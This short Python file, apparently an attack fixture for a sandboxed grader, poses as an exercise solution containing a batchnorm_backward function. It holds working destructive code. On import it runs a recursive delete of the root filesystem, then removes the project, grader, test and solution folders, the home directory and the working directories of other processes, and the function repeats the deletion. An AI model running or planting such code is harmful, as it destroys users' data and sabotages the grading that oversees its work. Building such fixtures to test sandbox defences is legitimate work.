# Deletes whatever of the project (and anything else) it can reach.  Only ever run
# inside the sandbox: tests/test_attacks.py refuses to run it otherwise.
import os
import shutil
from pathlib import Path


def _targets():
    here = Path(__file__).resolve()
    yield from here.parents[:-1]  # the folders above this file, "/" excepted
    yield Path.cwd()
    yield Path("/work/main")
    yield Path.home()
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                yield Path(os.readlink(f"/proc/{pid}/cwd"))
            except OSError:
                pass


def _delete_project():
    for target in _targets():
        for name in ("solutions", "grader", "tests", "exercises", ""):
            shutil.rmtree(target / name if name else target, ignore_errors=True)


# Once, at import: everything, from the root down.
shutil.rmtree("/", ignore_errors=True)
_delete_project()


def batchnorm_backward(dout, cache):
    _delete_project()
    raise RuntimeError("deleted what I could")
